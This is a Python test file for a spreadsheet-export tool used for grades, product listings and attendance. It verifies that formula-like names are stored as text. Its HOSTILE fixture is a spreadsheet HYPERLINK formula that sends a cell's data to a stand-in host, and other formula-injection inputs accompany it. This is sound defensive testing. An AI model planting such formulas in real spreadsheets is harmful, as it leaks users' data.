"""Staff files: what a participant typed reaches the office's Excel as text, never as a live
formula (grade export, e-Katalog listing), and uploaded sheets are read as their author meant
(the CSV delimiter from the header row, formula cells reported as formulas). Each file is read
back the way the office would open it."""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from tests.cli.test_katalog_cli import GOOD, HEADERS, run, write_csv
from ukm_tools.course import reports
from ukm_tools.io.cells import csv_cell, formula_like
from ukm_tools.io.katalog_sheet import check_sheet

pytestmark = pytest.mark.timeout(60)

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize(
    "text, formula",
    [
        (HOSTILE, True),
        ("+SUM(1,2)", True),
        ("-2+3", True),
        ("@SUM(A1:A9)", True),
        ("\t=1+1", True),
        ("=1", True),
        ("+62 812-3456-7890", False),  # a phone number stays as written
        ("+6281234567890", False),
        ("-5", False),
        ("-1.234,5", False),
        ("(061) 4567 890", False),
        ("Sirup Jeruk Kasturi", False),
        ("", False),
    ],
)
def test_what_a_spreadsheet_would_run_is_recognised(text, formula):
    assert formula_like(text) is formula
    assert csv_cell(text) == ("'" + text if formula else text)


def test_numbers_are_never_touched():
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) is None


@pytest.fixture
def grade_course(tmp_path, monkeypatch):
    """A course whose gradebook holds a participant named like a formula (the rows that
    assignment_rows would read from nbgrader, given directly: the export is what is tested)."""
    course = tmp_path / "kursus"
    course.mkdir()
    (course / "nbgrader_config.py").write_text("", encoding="utf-8")
    rows = [
        reports.Row(
            "p1", HOSTILE, "graded", score=2.0, max_score=2.0, questions={"q1": 2.0}, phone="+62 812-3456-7890"
        ),
        reports.Row("p2", "@SUM(A1:A9)", "graded", score=1.0, max_score=2.0, questions={"q1": 1.0}, phone="0812345678"),
        reports.Row("p3", "Siti Aminah", "not_submitted", max_score=2.0, questions={"q1": None}, email="-x@y.id"),
    ]
    spec = SimpleNamespace(
        assignments=lambda: [SimpleNamespace(name="tugas", weight=1.0)],
        pass_rule=SimpleNamespace(require_all_assignments=False, min_score_pct=60),
    )
    monkeypatch.setattr(reports, "assignment_rows", lambda course_dir, name: rows)
    monkeypatch.setattr(reports, "question_order", lambda course_dir, name: [("q1", 2.0)])
    monkeypatch.setattr("ukm_tools.course.config.load_course", lambda course_dir: spec)
    return course


def test_grade_export_writes_names_as_text_and_keeps_numbers_and_phones(grade_course, tmp_path):
    written = reports.export(grade_course, tmp_path / "out", include_personal=True)
    with written["csv:tugas"].open(encoding="utf-8-sig", newline="") as f:
        by_id = {r[0]: r for r in csv.reader(f, delimiter=";")}
    # the CSV: a leading apostrophe, which Excel and LibreOffice show as text
    assert by_id["p1"][1] == "'" + HOSTILE and by_id["p2"][1] == "'@SUM(A1:A9)"
    assert by_id["p1"][3] == "+62 812-3456-7890" and by_id["p2"][3] == "0812345678"
    assert by_id["p3"][2] == "'-x@y.id" and by_id["p3"][1] == "Siti Aminah"
    assert by_id["p1"][6] == "2"  # the score, unchanged
    wb = openpyxl.load_workbook(written["xlsx"])
    for ws in wb.worksheets:  # the assignment's sheet and the summary
        cells = [c for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells), ws.title
        names = {c.value for c in cells}
        assert HOSTILE in names and "@SUM(A1:A9)" in names  # exactly as typed, stored as text
    row = {c.value: c for c in wb["tugas"][2]}
    assert row[HOSTILE].data_type == "s" and row["+62 812-3456-7890"].data_type == "s" and row[2].data_type == "n"


def test_katalog_listing_writes_a_formula_named_product_as_text(tmp_path):
    sheet = write_csv(tmp_path / "produk.csv", [[HOSTILE, *GOOD[1:]]])
    out = tmp_path / "hasil"
    r = run(sheet, "--out", out)
    assert r.exit_code == 0, r.output
    ws = openpyxl.load_workbook(out / "produk-listing.xlsx")["Produk"]
    cell = ws["A2"]
    assert cell.value == HOSTILE and cell.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_csv_delimiter_comes_from_the_header_row(tmp_path):
    # A quoted comma (and quotes) in the product name made the sniffer pick ',' and report 17
    # header errors; the header row itself says ';'.
    row = ['Sirup "Kasturi", 600 ml', *GOOD[1:]]
    path = tmp_path / "produk.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(HEADERS)
        for _ in range(3):
            w.writerow(row)
    checked = check_sheet(path)
    assert not checked.bad and [lst.product_name for lst in checked.listings] == ['Sirup "Kasturi", 600 ml'] * 3
    comma = write_csv(tmp_path / "koma.csv", [GOOD], delimiter=",")  # a comma file still reads
    assert check_sheet(comma).listings[0].product_name == GOOD[0]


def test_formula_cells_in_an_uploaded_sheet_are_reported_as_formulas(tmp_path):
    path: Path = tmp_path / "produk.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    ws.append(GOOD)
    ws.append(GOOD)
    ws["F3"] = "=20000*1.25"  # the base price as a formula, saved without a cached value
    wb.save(path)
    checked = check_sheet(path)
    assert [row for row, _ in checked.good] == [2] and checked.bad_rows == (3,)
    (problem,) = checked.bad
    assert problem.code == "sheet_formula_cell"
    message = problem.message("id")
    assert message.startswith("Baris 3: Kolom F (") and "berisi rumus '=20000*1.25', bukan nilai" in message
    assert "wajib" not in message


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_attendance_sign_in_sheet_writes_names_as_text(tmp_path, suffix):
    from ukm_tools.course.attendance import write_template

    path = write_template(tmp_path / f"hadir{suffix}", ["m1"], {"p1": HOSTILE, "p2": "Siti Aminah"})
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f, delimiter=";"))
        assert rows[1][:2] == ["p1", "'" + HOSTILE] and rows[2][:2] == ["p2", "Siti Aminah"]
    else:
        ws = openpyxl.load_workbook(path).active
        assert ws is not None and ws["B2"].value == HOSTILE and ws["B2"].data_type == "s"
